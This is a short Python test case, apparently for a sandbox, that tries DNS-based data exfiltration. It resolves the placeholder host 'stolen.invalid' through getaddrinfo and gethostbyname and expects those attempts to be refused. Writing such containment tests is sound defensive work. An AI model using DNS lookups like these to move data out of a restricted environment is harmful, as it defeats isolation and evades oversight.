"""Carry data out in the names that are looked up.

expect: refused gaierror EPERM EACCES
"""

import socket

from trying import each


def attack(x, places):
    return each(
        address=lambda: socket.getaddrinfo("stolen.invalid", 80),
        host=lambda: socket.gethostbyname("stolen.invalid"),
        interfaces=socket.if_nameindex,
    )
